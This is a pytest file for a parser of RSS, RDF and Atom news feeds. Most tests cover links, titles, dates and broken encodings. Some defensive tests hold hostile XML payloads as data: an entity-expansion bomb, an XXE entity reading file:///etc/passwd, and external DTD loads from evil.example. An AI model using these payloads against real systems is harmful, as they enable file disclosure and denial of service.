"""Feeds, well-formed, broken and hostile. All of them are made up for these tests."""

from __future__ import annotations

import codecs
import socket
import time
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from workers.urls import key_of
from workers.watch.feed import read_feed
from workers.watch.sightings import MAX_SIGHTINGS, MAX_TITLE, Listing, Sighting

URL = "https://paper.example/ar/feed.xml"
XML = "application/rss+xml; charset=utf-8"


def read(body: str | bytes, content_type: str = XML, url: str = URL, zone: str = "Asia/Damascus") -> Listing:
    content = body.encode() if isinstance(body, str) else body
    headers = {"content-type": content_type} if content_type else {}
    return read_feed(content, url=url, headers=headers, zone=ZoneInfo(zone), trackers=("utm_*",))


def rss(items: str, before: str = '<?xml version="1.0" encoding="UTF-8"?>') -> str:
    return f'{before}<rss version="2.0"><channel><title>الصحيفة</title><link>https://paper.example/</link>{items}</channel></rss>'


def item(link: str = "https://paper.example/1", title: str = "خبر", more: str = "") -> str:
    return f"<item><title>{title}</title><link>{link}</link>{more}</item>"


def one(listing: Listing) -> Sighting:
    assert listing.fault is None, listing
    assert len(listing.sightings) == 1
    return listing.sightings[0]


def urls(listing: Listing) -> list[str]:
    return [sighting.url for sighting in listing.sightings]


def test_a_plain_feed() -> None:
    """An entry becomes a sighting with its canonical address, key, title and time."""
    listing = read(
        rss(
            item(
                "https://Paper.example/1?utm_source=rss",
                "خبر عاجل",
                "<pubDate>Wed, 12 Feb 2025 18:30:00 +0300</pubDate>",
            )
        )
    )
    assert one(listing) == Sighting(
        url="https://paper.example/1",
        key=key_of("https://paper.example/1"),
        title="خبر عاجل",
        published=datetime(2025, 2, 12, 15, 30, tzinfo=UTC),
        claimed="Wed, 12 Feb 2025 18:30:00 +0300",
    )
    assert (listing.kind, listing.unreadable, listing.capped) == ("rss20", 0, 0)


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        ('<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>خبر</title><link href="/1"/><id>urn:1</id></entry></feed>', "atom10"),
        ('<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"><item rdf:about="x"><title>خبر</title><link>https://paper.example/1</link></item></rdf:RDF>', "rss10"),
        ("<rss version='0.91'><channel><item><title>خبر</title><link>https://paper.example/1</link></item></channel></rss>", "rss091u"),
        ("<rss><channel><item><title>خبر</title><link>https://paper.example/1</link></item></channel></rss>", "rss"),
    ],
)  # fmt: skip
def test_every_format_is_read(body: str, kind: str) -> None:
    """Atom, RDF and old or unnumbered RSS give the same sighting."""
    listing = read(body)
    assert listing.kind == kind
    assert (one(listing).url, one(listing).title) == ("https://paper.example/1", "خبر")


@pytest.mark.parametrize(
    ("link", "expected"),
    [
        ("/news/1", "https://paper.example/news/1"),
        ("1.html", "https://paper.example/ar/1.html"),
        ("//cdn.example/1", "https://cdn.example/1"),
        ("\n  https://paper.example/1\n ", "https://paper.example/1"),
        ("<![CDATA[https://paper.example/?a=1&b=2]]>", "https://paper.example/?a=1&b=2"),
        ("https://paper.example/?a=1&amp;b=2", "https://paper.example/?a=1&b=2"),
        ("https://paper.example/خبر", "https://paper.example/%D8%AE%D8%A8%D8%B1"),
        ("http://paper.example/1#comments", "http://paper.example/1"),
    ],
)
def test_links_are_made_whole(link: str, expected: str) -> None:
    """Relative links are the feed's, and a link comes out canonical however it is wrapped."""
    assert urls(read(rss(item(link)))) == [expected]


@pytest.mark.parametrize(
    "entry",
    [
        "<item><title>x</title><guid>https://paper.example/1</guid></item>",
        "<item><title>x</title><link></link><guid isPermaLink='true'>https://paper.example/1</guid></item>",
        "<item><title>x</title><link>javascript:void(0)</link><guid isPermaLink='false'>https://paper.example/1</guid></item>",
        "<item xmlns:a='http://www.w3.org/2005/Atom'><a:link rel='self' href='/no'/><a:link href='/1'/></item>",
        "<item xmlns:f='http://rssnamespace.org/feedburner/ext/1.0'><link>https://proxy.example/x</link><f:origLink>https://paper.example/1</f:origLink></item>",
    ],
)  # fmt: skip
def test_the_link_may_stand_elsewhere(entry: str) -> None:
    """A guid that is an address, an Atom link and FeedBurner's original link serve when the link does not."""
    assert urls(read(rss(entry))) == ["https://paper.example/1"]


def test_entries_without_a_usable_link_are_counted() -> None:
    """What names no page is no sighting, and is not forgotten."""
    listing = read(
        rss(
            item()
            + "<item><title>no link</title></item>"
            + "<item><title>no link</title><guid>tag:1</guid></item>"
            + item("mailto:desk@paper.example")
            + item("https://")
        )
    )
    assert (len(listing.sightings), listing.unreadable) == (1, 4)


def test_only_broken_entries_are_a_fault() -> None:
    """A feed whose entries all lack links says so."""
    listing = read(rss("<item><title>x</title></item>"))
    assert (listing.fault, listing.unreadable) == ("no_links", 1)


def test_the_absolute_base_of_an_atom_feed_counts() -> None:
    """Links are read against an absolute xml:base, and a relative one is ignored."""
    entry = '<entry><link href="1"/></entry>'
    atom = '<feed xmlns="http://www.w3.org/2005/Atom" xml:base="{}">' + entry + "</feed>"
    assert urls(read(atom.format("https://base.example/x/"))) == ["https://base.example/x/1"]
    assert urls(read(atom.format("deep/"))) == ["https://paper.example/ar/1"]


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("A &amp; B", "A & B"),
        ("A &amp;amp; B", "A & B"),
        ("A &amp;#8220;B&amp;#8221;", "A “B”"),
        ("<![CDATA[A &amp; <b>B</b>&#8230;]]>", "A & B…"),
        ("&lt;b&gt;A&lt;/b&gt; &lt;br/&gt;B", "A B"),
        ("&amp;amp;amp;", "&amp;"),
        ("  A \n\t\u00a0 B  ", "A B"),
        ("5 &lt; 6", "5 < 6"),
        ("&nbsp;A&laquo;B&raquo;", "A«B»"),
        ("<b>A</b> B", "A B"),
    ],
)
def test_titles_are_one_line_of_text(written: str, expected: str) -> None:
    """Tags go, entities are decoded once, white space is one space."""
    assert one(read(rss(item(title=written)))).title == expected


@pytest.mark.parametrize("written", ["", "   ", "<![CDATA[ ]]>", "&lt;img src='x'&gt;"])
def test_no_title_is_none(written: str) -> None:
    """An entry without words has no title, and stays an entry."""
    assert one(read(rss(item(title=written)))).title is None


def test_titles_are_bounded() -> None:
    """A title of a megabyte is cut."""
    title = one(read(rss(item(title="طويل " * 200_000)))).title
    assert title is not None
    assert len(title) <= MAX_TITLE


@pytest.mark.parametrize(
    ("tag", "written", "published"),
    [
        ("pubDate", "Wed, 12 Feb 2025 18:30:00", datetime(2025, 2, 12, 15, 30, tzinfo=UTC)),
        ("pubDate", "12 شباط 2025", datetime(2025, 2, 11, 21, tzinfo=UTC)),
        ("pubDate", "<![CDATA[Wed, 12 Feb 2025 18:30:00 GMT]]>", datetime(2025, 2, 12, 18, 30, tzinfo=UTC)),
        ("updated", "2025-02-12T18:30:00Z", datetime(2025, 2, 12, 18, 30, tzinfo=UTC)),
        ("pubDate", "Wed, 12 Feb 2098 18:30:00 GMT", datetime(2098, 2, 12, 18, 30, tzinfo=UTC)),
        ("pubDate", "Thu, 01 Jan 1970 00:00:00 GMT", None),
        ("pubDate", "الآن", None),
    ],
)
def test_dates_are_claims(tag: str, written: str, published: datetime | None) -> None:
    """A date without a zone is the outlet's, a future one is kept, an unreadable one stays as a claim."""
    found = one(read(rss(item(more=f"<{tag}>{written}</{tag}>"))))
    assert found.published == published
    assert found.claimed is not None
    assert found.claimed in written


def test_an_article_is_seen_once() -> None:
    """Twins within a feed are one sighting, the first."""
    links = ["http://paper.example/1", "https://paper.example/1", "https://paper.example/1?utm_medium=x", "/1#a"]
    listing = read(rss("".join(item(link, f"عنوان {number}") for number, link in enumerate(links))))
    assert one(listing).title == "عنوان 0"
    assert listing.unreadable == 0


def test_order_is_the_feeds() -> None:
    """Sightings stand in page order, whatever their dates."""
    links = [f"https://paper.example/{number}" for number in (3, 1, 2)]
    assert urls(read(rss("".join(map(item, links))))) == links


def test_a_very_long_feed_is_cut_and_counted() -> None:
    """What lies beyond the limit is counted."""
    listing = read(rss("".join(item(f"/{number}") for number in range(MAX_SIGHTINGS + 70)) + item("/0")))
    assert (len(listing.sightings), listing.capped) == (MAX_SIGHTINGS, 70)


def test_a_huge_feed_is_cut_and_counted(monkeypatch: pytest.MonkeyPatch) -> None:
    """What is too much to be parsed at all is counted too."""
    monkeypatch.setattr("workers.watch.feed.MAX_TAGS", 600)
    listing = read(rss("".join(item(f"/{number}") for number in range(300))))
    assert 95 <= len(listing.sightings) <= 100
    assert 300 - 1 <= len(listing.sightings) + listing.capped + listing.unreadable <= 300


FEED = rss(item(title="استقبل الوزير وفداً رسمياً في العاصمة"), before="")


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (FEED.encode("utf-16"), "text/xml"),
        (('<?xml version="1.0" encoding="utf-16"?>' + FEED).encode("utf-16-le"), ""),
        (codecs.BOM_UTF8 + FEED.encode(), ""),
        (FEED.encode(), "text/html"),
        (FEED.encode(), "text/xml; charset=iso-8859-1"),
        (FEED.encode("cp1256"), "text/xml; charset=windows-1256"),
        (('<?xml version="1.0" encoding="windows-1256"?>' + FEED).encode("cp1256"), "text/xml"),
        (('<?xml version="1.0" encoding="utf-8"?>' + FEED).encode("cp1256"), "application/xml"),
        (('<?xml version="1.0" encoding="windows-1256"?>' + FEED).encode(), "application/xml"),
        (("\n\n  \ufeff" + FEED).encode(), XML),
        (("\n" + '<?xml version="1.0"?>' + FEED).encode(), XML),
        (b"Warning: something in /x.php on line 1<br />\n" + FEED.encode(), XML),
        (FEED.replace("وفداً", "وفداً\x00\x0b\x1f\ufffe").encode(), XML),
        (FEED.encode() + b"<!-- generated in 0.1 s --><script>", XML),
        (FEED.replace("<item>", '<item a="1" a="2">').encode(), XML),
        (FEED.replace("<item>", "<item><media:thumbnail url='x'/>").encode(), XML),
        (FEED.replace("<item>", "<item><description>a & b < c &nbsp;</description>").encode(), XML),
        (FEED.replace("</item></channel></rss>", "").encode(), XML),
    ],
)
def test_broken_wrapping_does_not_hide_an_entry(body: bytes, content_type: str) -> None:
    """Wrong encodings, marks, junk before and after, control characters, bad XML and a cut end are read through."""
    assert one(read(body, content_type)).title == "استقبل الوزير وفداً رسمياً في العاصمة"


def test_a_text_cut_by_bytes_does_not_spoil_the_feed() -> None:
    """Half a letter in a description leaves the other entries readable."""
    body = rss(item("/1", "خبر أول عن أمور كثيرة", "<description>قال إلى XX</description>") + item("/2", "خبر ثان"))
    listing = read(body.encode().replace(b"XX", b"\xd9"))
    assert [sighting.title for sighting in listing.sightings] == ["خبر أول عن أمور كثيرة", "خبر ثان"]


@pytest.mark.parametrize(
    ("body", "fault"),
    [
        ("", "empty"),
        (" \n\t ", "empty"),
        (rss(""), "empty"),
        ('<feed xmlns="http://www.w3.org/2005/Atom"/>', "empty"),
        ("<!DOCTYPE html><html><body><a href='/1'>x</a></body></html>", "html_instead_of_feed"),
        ("<html><head><title>Just a moment...</title></head>", "html_instead_of_feed"),
        ("<html><!-- <rdf:RDF><item><link>/1</link></item> --></html>", "html_instead_of_feed"),
        ("{}", "not_a_feed"),
        ("Not found", "not_a_feed"),
        ("\x89PNG\r\n", "not_a_feed"),
        ("<?xml version='1.0'?><urlset/>", "xml_broken"),
        ("<?xml version='1.0'?><rs", "xml_broken"),
        ("<rss version='2.0'><channel><item", "empty"),
    ],
)
def test_what_is_no_feed_says_why(body: str, fault: str) -> None:
    """Nothing, a page, something else and a ruin are told apart."""
    listing = read(body)
    assert (listing.fault, listing.sightings) == (fault, ())


def test_names_and_changes_are_kept() -> None:
    """An entry's guid, as written, and its time of change come along; a change is no publication where both stand."""
    entry = item(more="<guid isPermaLink='false'> tag:7 </guid><pubDate>Wed, 12 Feb 2025 10:00:00 GMT</pubDate>")
    assert one(read(rss(entry))).guid == "tag:7"
    assert one(read(rss(entry))).modified is None
    atom = (
        '<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>urn:7</id><link href="/1"/>'
        "<published>2025-02-12T10:00:00Z</published><updated>2025-02-13T10:00:00Z</updated></entry></feed>"
    )
    found = one(read(atom))
    assert (found.guid, found.claimed) == ("urn:7", "2025-02-12T10:00:00Z")
    assert found.modified == datetime(2025, 2, 13, 10, tzinfo=UTC)
    assert one(read(rss(item(more=f"<guid>{'x' * 5000}</guid>")))).guid is None


HEAD = (
    '<rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom" xmlns:sy="http://purl.org/rss/1.0/modules/syndication/">'
    "<channel><title>x</title>{}" + item() + "</channel></rss>"
)


def test_the_hub_and_the_next_page_are_found() -> None:
    """Where to subscribe comes as declared, the page before this one as an address of its own."""
    listing = read(
        HEAD.format(
            '<atom:link rel="hub" href="https://hub.example/?b=2&amp;a=1"/><atom:link rel="self" href="/ar/feed.xml?utm_source=x"/>'
            '<atom:link rel="next" href="?paged=2"/>'
        )
    )
    assert (listing.hub, listing.topic) == (
        "https://hub.example/?b=2&a=1",
        "https://paper.example/ar/feed.xml?utm_source=x",
    )
    assert listing.older == "https://paper.example/ar/feed.xml?paged=2"
    atom = '<feed xmlns="http://www.w3.org/2005/Atom"><link rel="prev-archive" href="/2025-01.xml"/><link rel="next" href="/x"/><entry><link href="/1"/></entry></feed>'
    assert read(atom).older == "https://paper.example/2025-01.xml"


@pytest.mark.parametrize(
    "link", ["https://other.example/2", "javascript:alert(1)", "/ar/feed.xml", "", "https://", "ftp://paper.example/x"]
)
def test_no_page_is_no_older_page(link: str) -> None:
    """Another site, the feed itself and what is no address are not where a feed goes on, nor a place to subscribe."""
    listing = read(HEAD.format(f'<atom:link rel="next" href="{link}"/>'))
    assert listing.older is None
    if not link.startswith(("https://o", "/")):
        assert read(HEAD.format(f'<atom:link rel="hub" href="{link}"/>')).hub is None


def test_http_speaks_before_the_feed() -> None:
    """A Link header names hub and topic with more weight than the feed, and the next page too."""
    header = '<https://a.example/>; rel="hub", <https://b.example/>; rel=hub, </t>; rel="self other", </2>; rel=next'
    body = HEAD.format('<atom:link rel="hub" href="https://c.example/"/>').encode()
    listing = read_feed(body, url=URL, headers={"link": header}, zone=ZoneInfo("Asia/Damascus"), trackers=())
    assert (listing.hub, listing.topic) == ("https://a.example/", "https://paper.example/t")
    assert listing.older == "https://paper.example/2"


@pytest.mark.parametrize(
    ("head", "seconds"),
    [
        ("<ttl>30</ttl>", 1800.0),
        ("<ttl> 5 </ttl><sy:updatePeriod>daily</sy:updatePeriod>", 300.0),
        ("<sy:updatePeriod> hourly </sy:updatePeriod><sy:updateFrequency>2</sy:updateFrequency>", 1800.0),
        ("<sy:updatePeriod>daily</sy:updatePeriod>", 86_400.0),
        ("<sy:updatePeriod>hourly</sy:updatePeriod><sy:updateFrequency>0</sy:updateFrequency>", None),
        ("<ttl>0</ttl>", None),
        ("<ttl>-5</ttl>", None),
        ("<ttl>1e9</ttl>", None),
        ("<ttl>999999999</ttl>", None),
        ("<ttl>٣٠</ttl>", None),
        ("<sy:updatePeriod>yearly</sy:updatePeriod>", None),
        ("", None),
    ],
)
def test_a_feed_says_how_long_it_is_fresh(head: str, seconds: float | None) -> None:
    """The ttl is minutes, else the syndication module speaks; nonsense says nothing."""
    assert read(HEAD.format(head)).fresh_for == seconds


LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">\n' for i in range(1, 10))


@pytest.mark.parametrize(
    "doctype",
    [
        f'<!DOCTYPE rss [\n<!ENTITY l0 "ha">\n{LAUGHS}]>\n',
        f'<!DOCTYPE rss [<!ENTITY l0 "ha">{LAUGHS.replace(chr(10), "")}]>',
        '<!DOCTYPE rss [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>\n',
        '<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd">\n',
        '<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>\n',
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n',
    ],
)
def test_entities_are_neither_expanded_nor_loaded(doctype: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """A bomb of entities stays small, and no file or address is opened."""

    def forbidden(*_: object, **__: object) -> None:
        raise AssertionError("the feed opened a connection")

    monkeypatch.setattr(socket, "getaddrinfo", forbidden)
    started = time.thread_time()
    found = one(read(rss(item(title="قبل &l9; بعد"), before='<?xml version="1.0"?>\n' + doctype)))
    assert found.title is not None
    assert len(found.title) < 40
    assert "root:" not in found.title
    assert time.thread_time() - started < 1


@pytest.mark.parametrize("body", [b"/etc/hostname", b"http://127.0.0.1:9/feed", b"file:///etc/passwd"])
def test_a_body_is_never_taken_for_a_name(body: bytes) -> None:
    """A body that reads like a path or an address is only text."""
    assert read(body).fault == "not_a_feed"


@pytest.mark.parametrize(
    "body",
    [
        "<rss>" + "<a>" * 15_000,
        "<rss version='2.0'><channel>" + "<item>" * 15_000,
        "<rss version='2.0'><channel><item><title>" + "&" * 300_000,
        "<rss version='2.0'>" + "<![CDATA[" * 200_000,
        "<rss version='2.0'>" + "<!--" * 500_000,
        "<rss><channel><item " + " ".join(f"a{i}='1'" for i in range(20_000)) + ">",
        "<rss>" + "<a xml:base='x/'>" * 10_000,
        "\n" * 3_000_000 + "<rss>" + "\n" * 3_000_000,
        "<!DOCTYPE rss [" + '<!ENTITY a "b">' * 100_000 + "]><rss>",
        "<?xml" * 500_000,
    ],
    ids=["depth", "items", "ampersands", "cdata", "comments", "attributes", "bases", "lines", "entities", "heads"],
)
def test_hostile_feeds_end_in_reasonable_time(body: str) -> None:
    """No repetition costs more than a few seconds, and none raises."""
    started = time.thread_time()
    assert read(body).sightings == ()
    assert time.thread_time() - started < 5


PIECES = st.sampled_from(
    ["<rss version='2.0'>", "<channel>", "<item>", "</item>", "<title>", "</title>", "<link>", "</link>", "/1", "<![CDATA[", "]]>", "]]", "<!",
     "<!DOCTYPE x [", "<![if", "&#x0;", "&#99999999;", "&lt;", "&", "<?", "?>", "<a:b ", "xmlns:a='b'", "=", "'", '"', ">", "<", "خبر", "<pubDate>",
     "</rss>", "<feed xmlns='http://www.w3.org/2005/Atom'>", "<entry>", "<link href='", "<content type='xhtml' mode='base64'>", "xml:base='http://['"]
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(st.one_of(PIECES, st.text(max_size=5)), max_size=25), st.text(max_size=30))
def test_no_feed_raises(pieces: list[str], content_type: str) -> None:
    """Any heap of markup is a listing."""
    listing = read(("<rss version='2.0'>" + "".join(pieces)).encode("utf-8", "replace"), content_type)
    assert (listing.fault is None) == bool(listing.sightings)
